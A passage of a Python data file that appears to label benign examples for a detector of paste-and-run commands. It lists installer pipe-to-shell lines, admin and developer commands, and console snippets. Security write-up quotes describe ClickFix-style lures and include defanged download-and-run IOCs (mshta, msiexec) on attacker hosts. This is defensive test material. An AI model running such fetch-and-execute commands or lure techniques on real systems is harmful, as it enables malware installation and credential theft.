        "https://github.com/SteamDeckHomebrew/decky-loader",
        "curl -L https://github.com/SteamDeckHomebrew/decky-installer/releases/latest/download/install_release.sh | sh",
    ),
    ("https://github.com/jmcerrejon/PiKISS", "curl -sSL https://git.io/JfAPE | bash"),
    (
        "https://www.iobroker.net/#en/documentation/install/linux.md",
        "curl -sLf https://iobroker.net/install.sh | bash -",
    ),
    (
        "https://github.com/jhuckaby/Cronicle",
        "curl -s https://raw.githubusercontent.com/jhuckaby/Cronicle/master/bin/install.js | node",
    ),
    (
        "https://stalw.art/docs/install/platform/linux",
        "curl --proto '=https' --tlsv1.2 -sSf https://get.stalw.art/install.sh -o install.sh\nsudo sh install.sh",
    ),
    (
        "https://sing-box.sagernet.org/installation/package-manager/",
        "curl -fsSL https://sing-box.app/install.sh | sh",
    ),
    (
        "https://docs.directadmin.com/getting-started/installation/installguide.html",
        "bash <(curl -fsSL https://download.directadmin.com/setup.sh) 'auto'",
    ),
    ("https://easyengine.io/handbook/install/", "wget -qO ee https://rt.cx/ee4 && sudo bash ee"),
    (
        "https://docs.wordops.net/getting-started/installation-guide/",
        "wget -qO wo wops.cc && sudo bash wo",
    ),
    (
        "https://github.com/tunnelmole/tunnelmole-client",
        "curl -O https://install.tunnelmole.com/xD345/install && sudo bash install",
    ),
    (
        "https://github.com/kerl/kerl",
        "curl -O https://raw.githubusercontent.com/kerl/kerl/master/kerl\nchmod a+x kerl",
    ),
    ("https://puro.dev/", 'curl -o- https://puro.dev/install.sh | PURO_VERSION="1.4.6" bash'),
    (
        "https://github.com/chaitin/SafeLine",
        'bash -c "$(curl -fsSLk https://waf.chaitin.com/release/latest/manager.sh)" -- --en',
    ),
    (
        "https://docs.instana.io/setup_and_manage/host_agent/on/linux/",
        "curl -o setup_agent.sh https://setup.instana.io/agent && chmod 700 ./setup_agent.sh && sudo ./setup_agent.sh -a <agent-key>",
    ),
    (
        "https://retropie.org.uk/docs/Manual-Installation/",
        "git clone --depth=1 https://github.com/RetroPie/RetroPie-Setup.git\ncd RetroPie-Setup\nsudo ./retropie_setup.sh",
    ),
    (
        "https://github.com/FlareSolverr/FlareSolverr",
        "docker run -d \\\n  --name=flaresolverr \\\n  -p 8191:8191 \\\n  -e LOG_LEVEL=info \\\n  --restart unless-stopped \\\n  ghcr.io/flaresolverr/flaresolverr:latest",
    ),
    ("https://github.com/blacklanternsecurity/bbot", "pipx install bbot"),
    (
        "https://github.com/ovh/the-bastion",
        "git clone https://github.com/ovh/the-bastion /opt/bastion",
    ),
    ("https://github.com/mozilla/ssh_scan", "gem install ssh_scan"),
    ("https://github.com/aquasecurity/kube-hunter", "pip install kube-hunter"),
    ("https://github.com/cyberark/KubiScan", "git clone https://github.com/cyberark/KubiScan.git"),
    ("https://github.com/Shopify/kubeaudit", "brew install kubeaudit"),
    (
        "https://github.com/controlplaneio/kubesec",
        "go install github.com/controlplaneio/kubesec/v2@latest",
    ),
    ("https://github.com/vmware-tanzu/octant", "brew install octant"),
    (
        "https://github.com/kubevela/kubevela",
        "curl -fsSl https://kubevela.net/script/install.sh | bash",
    ),
    ("https://github.com/kubeshop/testkube", "curl -sSLf https://get.testkube.io | sh"),
    (
        "https://github.com/ylx2016/Linux-NetSpeed",
        'wget -O tcpx.sh "https://github.com/ylx2016/Linux-NetSpeed/raw/master/tcpx.sh" && chmod +x tcpx.sh && ./tcpx.sh',
    ),
    ("https://github.com/233boy/v2ray", "bash <(wget -qO- -o- https://git.io/v2ray.sh)"),
    (
        "https://github.com/fscarmen/warp",
        "wget -N https://gitlab.com/fscarmen/warp/-/raw/main/menu.sh && bash menu.sh",
    ),
    (
        "https://github.com/trojan-gfw/trojan-quickstart",
        'sudo bash -c "$(curl -fsSL https://raw.githubusercontent.com/trojan-gfw/trojan-quickstart/master/trojan-quickstart.sh)"',
    ),
    (
        "https://github.com/bin456789/reinstall",
        "curl -O https://raw.githubusercontent.com/bin456789/reinstall/main/reinstall.sh || wget -O ${_##*/} $_",
    ),
    (
        "https://github.com/bohanyang/debi",
        "curl -fLO https://raw.githubusercontent.com/bohanyang/debi/master/debi.sh && chmod a+rx debi.sh",
    ),
    (
        "https://github.com/elitak/nixos-infect",
        "curl https://raw.githubusercontent.com/elitak/nixos-infect/master/nixos-infect | NIX_CHANNEL=nixos-23.05 bash -x",
    ),
    (
        "https://github.com/dockur/windows",
        'docker run -it --rm --name windows -p 8006:8006 --device=/dev/kvm --device=/dev/net/tun --cap-add NET_ADMIN -v "${PWD:-.}/windows:/storage" --stop-timeout 120 dockurr/windows',
    ),
    (
        "https://github.com/dockur/macos",
        'docker run -it --rm --name macos -p 8006:8006 --device=/dev/kvm --device=/dev/net/tun --cap-add NET_ADMIN -v "${PWD:-.}/macos:/storage" --stop-timeout 120 dockurr/macos',
    ),
    (
        "https://github.com/winapps-org/winapps",
        "bash <(curl https://raw.githubusercontent.com/winapps-org/winapps/main/setup.sh)",
    ),
    (
        "https://github.com/netbox-community/netbox-docker",
        "git clone -b release https://github.com/netbox-community/netbox-docker.git\ncd netbox-docker",
    ),
    (
        "https://www.ory.sh/docs/guides/cli/installation",
        "bash <(curl https://raw.githubusercontent.com/ory/meta/master/install.sh) -b . ory\nsudo mv ./ory /usr/local/bin/",
    ),
    (
        "https://github.com/jgraph/docker-drawio",
        'docker run -it --rm --name="draw" -p 8080:8080 -p 8443:8443 jgraph/drawio',
    ),
    (
        "https://github.com/ONLYOFFICE/DocumentServer",
        "sudo docker run -i -t -d -p 80:80 onlyoffice/documentserver",
    ),
    (
        "https://docs.saltbox.dev/install/install/",
        "curl -sL https://install.saltbox.dev | sudo -H bash",
    ),
    ("https://github.com/swizzin/swizzin", "bash <(curl -sL git.io/swizzin)"),
    (
        "https://github.com/apache/answer",
        "docker run -d -p 9080:80 -v answer-data:/data --name answer apache/answer:latest",
    ),
    ("https://github.com/pi-hole/PADD", "wget -O padd.sh https://install.padd.sh"),
    (
        "https://learn.adafruit.com/circuitpython-on-raspberrypi-linux/installing-circuitpython-on-raspberry-pi",
        "wget https://raw.githubusercontent.com/adafruit/Raspberry-Pi-Installer-Scripts/master/raspi-blinka.py\nsudo -E env PATH=$PATH python3 raspi-blinka.py",
    ),
    ("https://github.com/pimoroni/blinkt", "curl https://get.pimoroni.com/blinkt | bash"),
    (
        "https://docs.evcc.io/en/docs/installation/linux",
        "curl -1sLf 'https://dl.evcc.io/public/evcc/stable/setup.deb.sh' | sudo -E bash",
    ),
    (
        "https://github.com/homebridge/homebridge/wiki/Install-Homebridge-on-Debian-or-Ubuntu-Linux",
        "curl -sSfL https://repo.homebridge.io/KEY.gpg | sudo gpg --dearmor | sudo tee /usr/share/keyrings/homebridge.gpg > /dev/null",
    ),
    (
        "https://shinobi.video/docs/start",
        "sh <(curl -s https://cdn.shinobi.video/installers/shinobi-install.sh)",
    ),
    (
        "https://www.ispyconnect.com/download.aspx",
        'bash <(curl -s "https://raw.githubusercontent.com/ispysoftware/agent-install-scripts/main/v2/install.sh")',
    ),
]
for page, command in OWN_PAGES:
    ok(OWN, TERM, page, command)

# Projects of earlier sets, here from ANOTHER real page with ANOTHER command shape (their Windows
# installer, where the earlier set had the shell one): counted apart in the README.
OWN_OTHER_SHAPE = [
    ("https://github.com/wasmerio/wasmer", "iwr https://win.wasmer.io -useb | iex"),
    (
        "https://surrealdb.com/docs/surrealdb/installation/windows",
        "iwr https://windows.surrealdb.com -useb | iex",
    ),
    (
        "https://docs.lando.dev/install/windows.html",
        "iex (irm 'https://get.lando.dev/setup-lando.ps1' -UseB)",
    ),
    ("https://webinstall.dev/", "curl.exe https://webi.ms/webi | powershell"),
]
for page, command in OWN_OTHER_SHAPE:
    ok(OWN, PS, page, command)

# --- Installers quoted in OTHER projects' pages (the page says: first install X) ----------------

THIRD = "installer-third-party"
for page, command in [
    (
        "https://v2.tauri.app/start/prerequisites/",
        "# Tauri needs Rust; install it with rustup:\ncurl --proto '=https' --tlsv1.2 https://sh.rustup.rs -sSf | sh\n# then restart your terminal",
    ),
    (
        "https://github.com/zed-industries/zed/blob/main/docs/src/development/linux.md",
        "# Install rustup first\ncurl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh\nscript/linux\ncargo run",
    ),
    (
        "https://github.com/huggingface/lerobot",
        "# We use uv for environments\ncurl -LsSf https://astral.sh/uv/install.sh | sh\nuv venv --python 3.10\nsource .venv/bin/activate",
    ),
    (
        "https://github.com/microsoft/markitdown",
        "# install uv if you do not have it\ncurl -LsSf https://astral.sh/uv/install.sh | sh\nuv tool install 'markitdown[all]'",
    ),
    (
        "https://github.com/oven-sh/bun/blob/main/CONTRIBUTING.md",
        "# the build uses bun itself\ncurl -fsSL https://bun.sh/install | bash\nbun setup",
    ),
    (
        "https://github.com/elysiajs/elysia",
        "# Elysia is built for Bun\ncurl -fsSL https://bun.sh/install | bash\nbun create elysia app",
    ),
    (
        "https://github.com/honojs/hono",
        "# With Deno\ncurl -fsSL https://deno.land/install.sh | sh\ndeno run -A npm:create-hono@latest my-app",
    ),
    (
        "https://github.com/fresh-project/fresh",
        "# Fresh needs Deno 2\ncurl -fsSL https://deno.land/install.sh | sh\ndeno run -Ar jsr:@fresh/init",
    ),
    (
        "https://github.com/solana-foundation/anchor",
        '# Install the Solana CLI first\nsh -c "$(curl -sSfL https://release.anza.xyz/stable/install)"\ncargo install --git https://github.com/coral-xyz/anchor avm --force',
    ),
    (
        "https://github.com/ethereum-optimism/optimism/blob/develop/CONTRIBUTING.md",
        "# Foundry is required\ncurl -L https://foundry.paradigm.xyz | bash\nfoundryup",
    ),
    (
        "https://github.com/nushell/nushell/blob/main/CONTRIBUTING.md",
        "# Get rustup\ncurl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y\ncargo build --workspace",
    ),
    (
        "https://github.com/astral-sh/uv/blob/main/CONTRIBUTING.md",
        "# Rust toolchain via rustup\ncurl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh\ncargo test",
    ),
    (
        "https://github.com/leptos-rs/leptos",
        "# needs nightly Rust\ncurl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh\nrustup toolchain install nightly\ncargo install cargo-leptos",
    ),
    (
        "https://github.com/mlc-ai/web-llm",
        "# emscripten for building from source\ngit clone https://github.com/emscripten-core/emsdk.git\ncd emsdk && ./emsdk install latest && ./emsdk activate latest",
    ),
    (
        "https://github.com/ggml-org/whisper.cpp",
        '# Homebrew on macOS for the dependencies\n/bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)"\nbrew install cmake ffmpeg sdl2',
    ),
    (
        "https://github.com/openai/whisper",
        "# on Windows you will need ffmpeg; with Scoop:\nSet-ExecutionPolicy RemoteSigned -Scope CurrentUser\nirm get.scoop.sh | iex\nscoop install ffmpeg",
    ),
    (
        "https://github.com/yt-dlp/yt-dlp/wiki/Installation",
        '# Windows users can get Python via winget first\nwinget install -e --id Python.Python.3.12\npython -m pip install -U "yt-dlp[default]"',
    ),
    (
        "https://github.com/ggml-org/llama.cpp/blob/master/docs/build.md",
        "# Windows: Visual Studio Build Tools and CMake via winget\nwinget install -e --id Kitware.CMake\ncmake -B build\ncmake --build build --config Release",
    ),
    (
        "https://github.com/facebookresearch/detectron2/blob/main/INSTALL.md",
        "# conda environment first (Miniforge)\ncurl -L -O \"https://github.com/conda-forge/miniforge/releases/latest/download/Miniforge3-Linux-x86_64.sh\"\nbash Miniforge3-Linux-x86_64.sh -b\npython -m pip install 'git+https://github.com/facebookresearch/detectron2.git'",
    ),
    (
        "https://github.com/ocaml/dune",
        '# install opam first, then dune\nbash -c "sh <(curl -fsSL https://opam.ocaml.org/install.sh)"\nopam init\nopam install dune',
    ),
    (
        "https://github.com/gleam-lang/gleam/blob/main/CONTRIBUTING.md",
        "# Erlang and Rust are needed\ncurl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh\nbrew install erlang rebar3\nmake test",
    ),
    (
        "https://github.com/typst/typst",
        "# build from source with a Rust toolchain (https://rustup.rs)\ncurl https://sh.rustup.rs -sSf | sh\ncargo install --locked typst-cli",
    ),
    (
        "https://github.com/helix-editor/helix/blob/master/book/src/building-from-source.md",
        "# Requires the Rust toolchain\ncurl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh\ngit clone https://github.com/helix-editor/helix\ncd helix\ncargo install --path helix-term --locked",
    ),
    (
        "https://github.com/containers/podman-desktop/blob/main/CONTRIBUTING.md",
        "# pnpm via corepack\ncorepack enable pnpm\npnpm install\npnpm watch",
    ),
    (
        "https://github.com/ankitects/anki/blob/main/docs/development.md",
        "# Anki's build uses rustup and ninja\ncurl https://sh.rustup.rs -sSf | sh\nsudo apt install ninja-build\n./run",
    ),
    (
        "https://github.com/sveltejs/kit/blob/main/CONTRIBUTING.md",
        "# pnpm is required\nnpm i -g pnpm\npnpm install\npnpm test",
    ),
]:
    ok(THIRD, TERM, page, command)

# --- Admin commands (intranet wikis, runbooks, vendor KBs) --------------------------------------

ADMIN = "admin-command"
for page, target, command in [
    (
        "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/gpupdate",
        TERM,
        "gpupdate /target:computer /force /wait:0",
    ),
    (
        "https://learn.microsoft.com/en-us/troubleshoot/windows-client/deployment/system-file-checker",
        TERM,
        "DISM /Online /Cleanup-Image /ScanHealth\nDISM /Online /Cleanup-Image /RestoreHealth /Source:wim:E:\\sources\\install.wim:1 /LimitAccess",
    ),
    (
        "https://wiki.corp.example/it/printers",
        TERM,
        "Get-Printer -ComputerName prn-srv02 | Where-Object Shared | Select-Object Name,DriverName,PortName",
    ),
    (
        "https://wiki.corp.example/it/ad-lockouts",
        TERM,
        "Search-ADAccount -LockedOut | Select-Object Name,SamAccountName,LastLogonDate | Sort-Object LastLogonDate",
    ),
    (
        "https://wiki.corp.example/it/ad-lockouts",
        TERM,
        "Unlock-ADAccount -Identity j.kowalski -Server dc01.corp.example",
    ),
    (
        "https://wiki.corp.example/it/winrm",
        TERM,
        "Enable-PSRemoting -Force\nSet-Item WSMan:\\localhost\\Client\\TrustedHosts -Value 'srv-app07.corp.example' -Concatenate",
    ),
    (
        "https://wiki.corp.example/it/bitlocker",
        TERM,
        "manage-bde -status E: && manage-bde -unlock E: -RecoveryPassword (read from the Intune portal)",
    ),
    (
        "https://wiki.corp.example/it/bitlocker",
        TERM,
        "Backup-BitLockerKeyProtector -MountPoint C: -KeyProtectorId (Get-BitLockerVolume C:).KeyProtector[1].KeyProtectorId",
    ),
    (
        "https://learn.microsoft.com/en-us/windows/deployment/update/windows-update-logs",
        TERM,
        "Get-WindowsUpdateLog -LogPath C:\\Temp\\WU-$env:COMPUTERNAME.log",
    ),
    (
        "https://wiki.corp.example/it/network",
        RUN,
        "cmd /k ipconfig /all & nslookup intranet.corp.example & tracert -d 10.20.0.1",
    ),
    (
        "https://wiki.corp.example/it/network",
        TERM,
        "Test-NetConnection -ComputerName mail.corp.example -Port 587 -InformationLevel Detailed",
    ),
    (
        "https://wiki.corp.example/it/dns",
        TERM,
        "Clear-DnsClientCache; Register-DnsClient; Resolve-DnsName fileshare.corp.example -Type A",
    ),
    (
        "https://wiki.corp.example/it/time",
        TERM,
        'w32tm /config /manualpeerlist:"time.corp.example,0x8" /syncfromflags:manual /update\nw32tm /resync /force',
    ),
    (
        "https://wiki.corp.example/it/certs",
        TERM,
        'certutil -store -user My | findstr /i /c:"Subject:" /c:"NotAfter"',
    ),
    (
        "https://wiki.corp.example/it/certs",
        TERM,
        "certutil -verify -urlfetch C:\\Temp\\vpn-gateway.cer",
    ),
    (
        "https://wiki.corp.example/it/software",
        TERM,
        "winget upgrade --all --include-unknown --silent --accept-package-agreements --accept-source-agreements --disable-interactivity",
    ),
    (
        "https://wiki.corp.example/it/software",
        TERM,
        "winget install -e --id Mozilla.Firefox.ESR --scope machine --silent",
    ),
    (
        "https://wiki.corp.example/it/intune",
        TERM,
        'Start-Process "$env:ProgramFiles(x86)\\Microsoft Intune Management Extension\\AgentExecutor.exe"; Get-Service IntuneManagementExtension | Restart-Service',
    ),
    (
        "https://learn.microsoft.com/en-us/mem/intune/remote-actions/device-sync",
        TERM,
        "Get-ScheduledTask -TaskPath '\\Microsoft\\Windows\\EnterpriseMgmt\\*' | Where-Object TaskName -eq 'PushLaunch' | Start-ScheduledTask",
    ),
    ("https://wiki.corp.example/it/outlook", RUN, "outlook.exe /cleanreminders"),
    ("https://wiki.corp.example/it/outlook", RUN, "outlook.exe /safe /profile Contoso"),
    (
        "https://wiki.corp.example/it/teams",
        TERM,
        'Get-AppxPackage MSTeams | Remove-AppxPackage; Remove-Item "$env:LOCALAPPDATA\\Packages\\MSTeams_8wekyb3d8bbwe\\LocalCache" -Recurse -Force',
    ),
    (
        "https://wiki.corp.example/it/disk",
        TERM,
        "Get-Volume | Where-Object DriveLetter | Select DriveLetter,FileSystemLabel,@{n='FreeGB';e={[math]::Round($_.SizeRemaining/1GB,1)}}",
    ),
    ("https://wiki.corp.example/it/disk", RUN, "cleanmgr /sageset:15"),
    (
        "https://wiki.corp.example/it/eventlog",
        TERM,
        "Get-WinEvent -FilterHashtable @{LogName='System'; Level=2; StartTime=(Get-Date).AddDays(-1)} | Select TimeCreated,Id,ProviderName -First 30",
    ),
    (
        "https://wiki.corp.example/linux/patching",
        TERM,
        "sudo apt update && sudo apt full-upgrade -y && sudo needrestart -r l",
    ),
    (
        "https://wiki.corp.example/linux/patching",
        TERM,
        "sudo dnf check-update && sudo dnf upgrade --security -y",
    ),
    (
        "https://wiki.corp.example/linux/disk",
        TERM,
        "sudo du -xh /var --max-depth=2 2>/dev/null | sort -rh | head -20",
    ),
    (
        "https://wiki.corp.example/linux/logs",
        TERM,
        'sudo journalctl -u gunicorn-orders --since "45 min ago" -p warning --no-pager',
    ),
    (
        "https://wiki.corp.example/linux/ssh",
        TERM,
        'ssh-keygen -t ed25519 -C "$(whoami)@$(hostname)-2027" -f ~/.ssh/id_ed25519_corp',
    ),
    (
        "https://wiki.corp.example/linux/ssh",
        TERM,
        "ssh -J bastion.corp.example admin@db03.internal.corp.example",
    ),
    (
        "https://wiki.corp.example/linux/certs",
        TERM,
        "openssl s_client -connect api.corp.example:443 -servername api.corp.example </dev/null 2>/dev/null | openssl x509 -noout -dates -subject",
    ),
    (
        "https://wiki.corp.example/linux/firewall",
        TERM,
        "sudo ufw allow from 10.40.0.0/16 to any port 5432 proto tcp comment 'postgres from app subnet'",
    ),
    (
        "https://wiki.corp.example/linux/users",
        TERM,
        "sudo usermod -aG docker,adm deploy && id deploy",
    ),
    (
        "https://wiki.corp.example/mac/mdm",
        TERM,
        "sudo profiles renew -type enrollment && sudo profiles status -type enrollment",
    ),
    (
        "https://wiki.corp.example/mac/mdm",
        TERM,
        "sudo jamf recon && sudo jamf policy -event software-update",
    ),
    (
        "https://support.apple.com/en-us/102149",
        TERM,
        "softwareupdate --list --include-config-data --verbose",
    ),
    (
        "https://wiki.corp.example/mac/dns",
        TERM,
        "sudo dscacheutil -flushcache && sudo killall -HUP mDNSResponder && scutil --dns | grep nameserver | sort -u",
    ),
    (
        "https://wiki.corp.example/k8s/runbook",
        TERM,
        "kubectl -n payments rollout restart deployment/payments-api && kubectl -n payments rollout status deployment/payments-api",
    ),
    (
        "https://wiki.corp.example/k8s/runbook",
        TERM,
        "kubectl get pods -n payments --field-selector=status.phase=Failed -o name | xargs -r kubectl delete -n payments",
    ),
    (
        "https://wiki.corp.example/db/postgres",
        TERM,
        "pg_dump -h db03.internal.corp.example -U backup -Fc -f /backups/orders_$(date +%F).dump orders",
    ),
    (
        "https://wiki.corp.example/backup/restic",
        TERM,
        "restic -r sftp:backup@nas01.corp.example:/srv/restic snapshots --host web02 --latest 3",
    ),
]:
    ok(ADMIN, target, page, command)

# --- Developer one-liners ------------------------------------------------------------------------

DEV = "dev-one-liner"
for page, command in [
    ("https://stackoverflow.com/questions/4114095", "git reset --soft HEAD~1 && git status"),
    (
        "https://stackoverflow.com/questions/6591213",
        "git branch -m old-name new-name && git push origin -u new-name && git push origin --delete old-name",
    ),
    (
        "https://git-scm.com/docs/git-bisect",
        "git bisect start HEAD v2.4.0 && git bisect run ./scripts/test-regression.sh",
    ),
    (
        "https://git-scm.com/docs/git-worktree",
        "git worktree add ../hotfix-2027 -b hotfix/2027-01 origin/release",
    ),
    (
        "https://docs.github.com/en/get-started/getting-started-with-git/managing-remote-repositories",
        "git remote set-url origin git@github.com:acme-example/billing-service.git",
    ),
    (
        "https://cli.github.com/manual/gh_pr_checkout",
        "gh pr checkout 4821 && gh pr diff --name-only",
    ),
    (
        "https://cli.github.com/manual/gh_run_watch",
        "gh run watch --exit-status && gh run view --log-failed",
    ),
    (
        "https://docs.python.org/3/library/venv.html",
        "python3 -m venv .venv-docs && . .venv-docs/bin/activate && pip install -r docs/requirements.txt",
    ),
    (
        "https://docs.python.org/3/library/http.server.html",
        "python3 -m http.server 8000 --bind 127.0.0.1 --directory dist",
    ),
    (
        "https://docs.pytest.org/en/stable/how-to/usage.html",
        "pytest -x -q --lf -k 'not slow' tests/",
    ),
    ("https://docs.astral.sh/uv/guides/scripts/", "uv run --with rich example.py"),
    (
        "https://docs.npmjs.com/cli/v10/commands/npm-ci",
        "rm -rf node_modules && npm ci --no-audit --no-fund",
    ),
    ("https://pnpm.io/cli/why", "pnpm why -r @babel/core"),
    (
        "https://vitejs.dev/guide/cli",
        "npx vite build --mode staging && npx vite preview --port 4173",
    ),
    (
        "https://docs.docker.com/reference/cli/docker/system/prune/",
        'docker system prune -af --volumes --filter "until=168h"',
    ),
    (
        "https://docs.docker.com/reference/cli/docker/container/exec/",
        "docker exec -it $(docker ps -qf name=api) sh -c 'env | sort'",
    ),
    (
        "https://docs.docker.com/build/building/multi-platform/",
        "docker buildx build --platform linux/amd64,linux/arm64 -t registry.corp.example/web:2027.1 --push .",
    ),
    (
        "https://go.dev/doc/modules/managing-dependencies",
        "go get -u ./... && go mod tidy && go test ./...",
    ),
    (
        "https://doc.rust-lang.org/cargo/commands/cargo-test.html",
        "cargo test --workspace --all-features -- --nocapture",
    ),
    (
        "https://doc.rust-lang.org/cargo/commands/cargo-build.html",
        "RUSTFLAGS='-C target-cpu=native' cargo build --release",
    ),
    (
        "https://jqlang.github.io/jq/manual/",
        "jq -r '.items[] | select(.status == \"failed\") | [.id, .error] | @tsv' report-2027-01.json",
    ),
    (
        "https://www.gnu.org/software/findutils/manual/html_mono/find.html",
        "find ./var/reports -name '*.csv.gz' -mtime +30 -print -delete",
    ),
    (
        "https://man7.org/linux/man-pages/man1/rsync.1.html",
        "rsync -avz --delete --exclude '.git' ./site/ deploy@web02.corp.example:/var/www/site/",
    ),
    (
        "https://ffmpeg.org/ffmpeg.html",
        "ffmpeg -i keynote-2027.mov -vf scale=1280:-2 -c:v libx264 -crf 24 -c:a aac -b:a 96k keynote-720p.mp4",
    ),
    (
        "https://imagemagick.org/script/mogrify.php",
        "mogrify -resize 1600x1600\\> -quality 82 -path ./web ./photos/*.jpg",
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.utility/measure-object",
        "Get-ChildItem -Recurse -Filter *.cs | Get-Content | Measure-Object -Line",
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.archive/compress-archive",
        "Compress-Archive -Path .\\dist\\* -DestinationPath .\\release-2027.1.zip -Force",
    ),
    (
        "https://learn.microsoft.com/en-us/dotnet/core/tools/dotnet-publish",
        "dotnet publish -c Release -r win-x64 --self-contained true -p:PublishSingleFile=true",
    ),
    (
        "https://learn.microsoft.com/en-us/windows/wsl/basic-commands",
        "wsl --shutdown; wsl -d Ubuntu-24.04 -u root",
    ),
    (
        "https://kubernetes.io/docs/reference/kubectl/quick-reference/",
        "kubectl port-forward -n observability svc/tempo-query 16686:16686",
    ),
    (
        "https://developer.hashicorp.com/terraform/cli/commands/plan",
        "terraform plan -var-file=envs/staging.tfvars -out=staging.plan",
    ),
    (
        "https://sqlite.org/cli.html",
        "sqlite3 app.db '.mode csv' '.headers on' 'select * from users limit 20;' > users.csv",
    ),
]:
    ok(DEV, TERM, page, command)

# --- Console snippets ----------------------------------------------------------------------------

CONSOLE = "console-snippet"
for page, text in [
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Performance/getEntriesByType",
        "performance.getEntriesByType('resource').filter(e => e.transferSize > 200000).map(e => [e.name, e.transferSize])",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Console/table",
        "console.table([...document.querySelectorAll('a[href]')].map(a => ({text: a.textContent.trim(), href: a.href})))",
    ),
    (
        "https://developer.chrome.com/docs/devtools/console/utilities",
        "copy([...document.querySelectorAll('h2')].map(h => h.textContent).join('\\n'))",
    ),
    (
        "https://developer.chrome.com/docs/devtools/console/utilities",
        "monitorEvents(document.querySelector('form'), ['submit', 'invalid'])",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Storage/clear",
        "localStorage.removeItem('checkout-draft-v3'); sessionStorage.clear(); location.reload()",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/ServiceWorkerContainer/getRegistrations",
        "navigator.serviceWorker.getRegistrations().then(rs => console.log(rs.length, rs.map(r => r.active?.scriptURL)))",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/CacheStorage/keys",
        "caches.keys().then(keys => Promise.all(keys.map(k => caches.delete(k))))",
    ),
    (
        "https://web.dev/articles/lcp",
        "new PerformanceObserver(l => l.getEntries().forEach(e => console.log('CLS shift', e.value, e.sources))).observe({type: 'layout-shift', buffered: true})",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Document/designMode",
        "document.querySelector('main').contentEditable = 'plaintext-only'",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Fetch_API/Using_Fetch",
        "fetch('/api/v2/health').then(r => r.json()).then(console.log)",
    ),
    ("https://react.dev/learn/react-developer-tools", "$r.state"),
    (
        "https://vuejs.org/guide/scaling-up/tooling.html#browser-devtools",
        "document.querySelector('#app').__vue_app__.config.globalProperties",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Document/cookie",
        "document.cookie.split('; ').filter(c => c.startsWith('consent_')).length",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Element/scrollIntoView",
        "document.querySelector('[data-testid=\"checkout\"]').scrollIntoView({behavior: 'smooth'})",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Navigator/clipboard",
        "await navigator.clipboard.writeText(location.href)",
    ),
    (
        "https://developer.chrome.com/docs/devtools/console/utilities#queryObjects-function",
        "queryObjects(WebSocket)",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/IDBFactory/databases",
        "indexedDB.databases().then(dbs => console.table(dbs))",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Intl/DateTimeFormat",
        "new Intl.DateTimeFormat('de-DE', {dateStyle: 'full'}).format(new Date())",
    ),
]:
    ok(CONSOLE, CON, page, text)

# --- Security write-ups quoting lures (in prose, defanged or described) -----------------------------

PROSE = "prose-security"
for page, text in [
    (
        "https://blog.security-research.example/clickfix-2027",
        "The fake CAPTCHA asks the visitor to press Win+R, then Ctrl+V. The clipboard holds a PowerShell one-liner that fetches a second stage with irm from hxxps://cdn[.]verify-gate[.]invalid and pipes it to iex.",
    ),
    (
        "https://blog.security-research.example/filefix",
        "In the FileFix variant the victim pastes into the File Explorer address bar. The command is followed by a # and a long run of spaces, so the bar shows only a harmless-looking path such as C:\\HR\\Policy.docx.",
    ),
    (
        "https://blog.security-research.example/macos-stealers",
        "On macOS the page tells the user to open Terminal and paste a base64 blob piped to bash; the decoded script downloads an AMOS variant and asks for the login password with osascript.",
    ),
    (
        "https://blog.security-research.example/dns-staging",
        "Recent samples stage the payload in DNS: nslookup queries a TXT record on an attacker-run resolver and the answer, a PowerShell command, is executed by the same one-liner.",
    ),
    (
        "https://intel.soc-team.example/advisory/2027-004",
        "Hunting tip: look for explorer.exe spawning powershell.exe with -w h (hidden window) and a URL on the command line within seconds of a browser process writing to the clipboard.",
    ),
    (
        "https://intel.soc-team.example/advisory/2027-005",
        "IOC summary (defanged): mshta hxxp://198.51.100[.]23/c.hta; msiexec /i hxxps://pkg[.]update-check[.]invalid/a.msi /qn. Block both at the proxy.",
    ),
    (
        "https://intel.soc-team.example/advisory/2027-006",
        'The lure page impersonates a Google Meet room and claims the microphone is blocked; the "Fix" button copies a command to the clipboard and shows instructions for Windows + X and Terminal.',
    ),
    (
        "https://www.threat-notes.example/consentfix",
        "ConsentFix abuses the OAuth authorization code flow: the phishing page asks the victim to paste the localhost redirect URL, which contains the authorization code, back into the page.",
    ),
    (
        "https://www.threat-notes.example/device-code",
        "Device code phishing: the attacker starts a device authorization flow and sends the user code to the victim, who signs in at the genuine microsoft.com/devicelogin page and thereby grants the attacker a token.",
    ),
    (
        "https://www.threat-notes.example/etherhiding",
        "EtherHiding stores the loader in a smart contract; the compromised site's injected script reads it with an eth_call to a public RPC endpoint, so there is no attacker-controlled web server to take down.",
    ),
    (
        "https://www.threat-notes.example/job-lures",
        "Fake job interviews ask developers to clone a take-home repository and run npm install; a postinstall script in a dependency fetches BeaverTail-style infostealer code.",
    ),
    (
        "https://awareness.corp.example/newsletter/2027-01",
        "Reminder: no legitimate website will ever ask you to press Windows+R and paste something. If a page asks you to do that to prove you are human, close it and report it to security@corp.example.",
    ),
    (
        "https://awareness.corp.example/newsletter/2027-02",
        "Achtung: Seiten, die Sie auffordern, Win+R zu drücken und einen Befehl einzufügen, sind Betrug. Schließen Sie das Fenster und melden Sie den Vorfall an die IT.",
    ),
    (
